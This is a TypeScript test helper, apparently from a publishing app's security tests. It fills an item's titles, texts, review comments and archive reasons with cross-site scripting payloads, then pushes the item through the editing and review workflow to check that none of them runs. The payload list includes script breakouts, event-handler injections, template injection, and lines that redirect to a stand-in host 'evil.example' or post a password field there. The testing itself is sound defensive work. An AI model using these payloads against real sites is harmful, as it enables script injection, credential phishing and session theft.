import { randomUUID } from "node:crypto";

import { ItemModel } from "#models/item.server.ts";

import { getPage, type Person, postForm } from "../helpers/people.ts";
import { HOSTILE_ADDRESSES, HOSTILE_TAGS, PLACES } from "../rich-text/hostile.ts";

/** Stands in every text of the item, and nowhere else. */
export const WORD = "zqxhostile";

const RUN = "globalThis.ran=1";
/** Every payload sets the one global that the pages are watched for. */
const armed = (text: string) => text.replaceAll("alert(1)", RUN).replaceAll("javascript:x", `javascript:${RUN}`);

const TAGS = [
  ...HOSTILE_TAGS.map(armed),
  `</script><script>${RUN}</script>`, `</title><script>${RUN}</script>`, `</textarea><img src=x onerror=${RUN}>`, `"><img src=x onerror="${RUN}">`, `'><svg onload='${RUN}'>`, `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<math><mi xlink:href="javascript:${RUN}">`, `<details open ontoggle=${RUN}>`, `<em>${WORD}</em><img src=x onerror=${RUN}>`, `--><script>${RUN}</script>`, `]]><script>${RUN}</script>`, `{{constructor.constructor("${RUN}")()}}`, `<base href="//evil.example/">`, `<form action="//evil.example"><input name=password>`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
];
/** In one line, as long as a title may be. */
const LINE = `${WORD} </script><script>${RUN}</script> "><img src=x onerror="${RUN}"> </title><svg onload='${RUN}'> <!--`;

/** Rich text with each payload in each place, in parts as long as a part may be. */
function hostileParts(): string[] {
  const all = [...HOSTILE_ADDRESSES.map((address) => `[${WORD}](${armed(address)})`), ...TAGS.map((tag) => `${WORD} ${tag}`)].flatMap((text) => PLACES.map((place) => place(text)));
  const parts = [""];
  for (const text of all) {
    const last = parts.length - 1;
    if ((parts[last] ?? "").length + text.length > 15_000) parts.push(text);
    else parts[last] = `${parts[last]}\n\n${text}`;
  }
  return parts;
}

export type Told = { id: string; /** Its public page, and that of another which was archived. */ published: string; archived: string };

type Hub = { url: string };
type Authors = { editor: Person; reviewer: Person };

const versionOf = async (id: string) => {
  const found = await ItemModel.findById(id).lean();
  const version = found?.versions[0];
  if (!version) throw new Error(`no item ${id}`);
  return version;
};

/** Sends a form that has to do what it is for. @throws Error with the hub's answer otherwise. */
async function send(hub: Hub, path: string, fields: Array<[string, string]>, person: Person): Promise<string> {
  const answer = await postForm(hub, path, fields, person);
  if (answer.status !== 302) throw new Error(`${path} (${fields[0]?.join("=")}) was answered with ${answer.status}: ${(await answer.text()).replace(/<script[\s\S]*?<\/script>|<[^>]*>/g, " ").slice(0, 2_000)}`);
  return answer.headers.get("Location") ?? "";
}

async function write(hub: Hub, editor: Person, id: string, extra = ""): Promise<void> {
  const parts = hostileParts();
  const fields: Array<[string, string]> = [
    ["intent", "save"], ["base", (await versionOf(id)).edit ?? ""], ["hand", "w"],
    ["title", `${LINE} ${extra}`], ["summary", `${LINE}\n${TAGS.join(" ")}`.slice(0, 1_100)], ["place", LINE], ["terms", "theme:nmirf"],
    ["from.year", "2024"], ["from.month", "5"], ["from.day", "9"], ["start", "09:00"], ["end", "10:00"], ["zone", "UTC"],
    ...parts.flatMap((text, index): Array<[string, string]> => [["s", `text-${index + 1} text`], [`s.text-${index + 1}.heading`, LINE], [`s.text-${index + 1}.text`, `${text}\n\n${extra}`]]),
    ["f", "figure"], ["f.figure.value", "4711"], ["f.figure.unit", `"><img src=x onerror=${RUN}>`], ["f.figure.label", LINE], ["f.figure.source", LINE],
    ["src", "0"], ["src.0.title", LINE], ["src.0.language", "en"],
  ];
  await send(hub, `/en/desk/items/${id}/edit/en`, fields, editor);
}

/** Takes a text with all of it through the pages of the desk to its readers, with what people say on the way. */
export async function makeHostileItem(hub: Hub, { editor, reviewer }: Authors): Promise<Told> {
  const begin = async () => (await send(hub, "/en/desk/new", [["type", "event"], ["language", "en"], ["title", LINE], ["token", randomUUID()]], editor)).split("/")[4] ?? "";
  const [id, other] = await Promise.all([begin(), begin()]);
  const handIn = async (one: string) => send(hub, `/en/desk/items/${one}`, [["intent", "submit"], ["version", "en"], ["seen", (await versionOf(one)).edit ?? ""]], editor);
  const decide = async (intent: string, one: string) => {
    const seen = String((await versionOf(one)).submitted?.revision);
    return send(hub, `/en/desk/items/${one}/review/en`, [["intent", intent], ["version", "en"], ["seen", seen], [`reason-${intent}-en`, `${LINE} ${TAGS.join(" ")}`.slice(0, 1_900)]], reviewer);
  };
  await write(hub, editor, id, "first");
  await handIn(id);
  for (const [section, who] of [["", reviewer], ["title", reviewer], ["text-1", editor]] as Array<[string, Person]>) {
    await send(hub, `/en/desk/items/${id}/review/en`, [["intent", "comment"], ["section", section], [`text-${section}`, `${LINE}\n${TAGS.join("\n")}`.slice(0, 3_900)], [`quote-${section}`, LINE], ["token", randomUUID()]], who);
  }
  await decide("request-changes", id);
  await write(hub, editor, id, "second");
  await handIn(id);
  await decide("approve", id);
  await write(hub, editor, other);
  await handIn(other);
  await decide("approve", other);
  await send(hub, `/en/desk/items/${other}`, [["intent", "archive"], ["reason-archive-", `${LINE} ${TAGS.join(" ")}`.slice(0, 1_900)], ["noteLang", "en"]], editor);
  // And once more, so that there are a text under way and differences from what is published.
  await write(hub, editor, id, "third");
  const published = (await getPage(hub, `/en/events/${id}`)).headers.get("Location") ?? "";
  return { id, published, archived: `/en/events/${other}` };
}
